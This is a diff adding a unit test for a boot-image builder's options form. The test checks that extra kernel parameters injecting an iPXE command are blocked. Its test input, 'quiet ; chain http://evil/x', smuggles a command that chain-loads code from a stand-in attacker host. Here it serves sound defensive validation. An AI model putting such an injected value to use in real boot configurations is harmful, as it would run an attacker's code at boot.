@@ -98,6 +98,21 @@ describe('Options step', () => {
     expect(screen.getByText(/is built for x86_64-linux, not aarch64-linux/)).toBeTruthy();
   });
 
+  it('keeps Build disabled, saying why in one sentence, for kernel parameters that would add an iPXE command', async () => {
+    const { user } = await resolvedDemo();
+    const build = screen.getByRole('button', { name: 'Build boot files' }) as HTMLButtonElement;
+    const params = screen.getByLabelText('Extra kernel parameters');
+    await user.type(params, 'quiet ; chain http://evil/x');
+    expect(build.disabled).toBe(true);
+    expect(screen.getByText(/^";" on its own cannot be a kernel parameter: iPXE would read it/).id).toBe(
+      'build-blocker',
+    );
+    await user.clear(params);
+    // Metacharacters inside a word are a kernel parameter like any other.
+    await user.type(params, 'nbc.x=a;b&&c$d(e)|f');
+    expect(build.disabled).toBe(false);
+  });
+
   it('estimates the RAM and download from the closure and the compressor', async () => {
     const { user } = await resolvedDemo();
     const needs = screen.getByRole('complementary', { name: 'What the image needs' });
